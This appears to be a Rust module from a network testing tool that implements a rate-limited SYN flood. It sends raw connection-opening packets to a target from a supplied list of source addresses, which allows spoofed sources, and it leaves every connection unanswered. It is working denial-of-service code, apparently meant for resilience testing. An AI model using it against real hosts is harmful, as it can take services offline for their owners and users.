//! A SYN flood: connections that are opened and never answered, at a bounded rate.

use std::{
    net::SocketAddr,
    thread,
    time::{Duration, Instant},
};

use crate::{
    error::Result,
    probe::packets::{RawSender, syn},
    station::Station,
};

/// The number of packets that are sent between two checks of the clock.
const BURST: usize = 32;

/// Sends the first segment of a connection from every source, at most `per_second` of them a second.
pub fn syn_flood(
    from: &dyn Station,
    sources: impl IntoIterator<Item = SocketAddr>,
    to: SocketAddr,
    per_second: u32,
) -> Result<()> {
    let sender = RawSender::open(from, to.ip())?;
    let interval = Duration::from_secs(1) / per_second;
    let begin = Instant::now();
    for (sent, source) in (0u32..).zip(sources) {
        if (sent as usize).is_multiple_of(BURST) {
            thread::sleep((interval * sent).saturating_sub(begin.elapsed()));
        }
        sender.send(&syn(source, to))?;
    }
    Ok(())
}
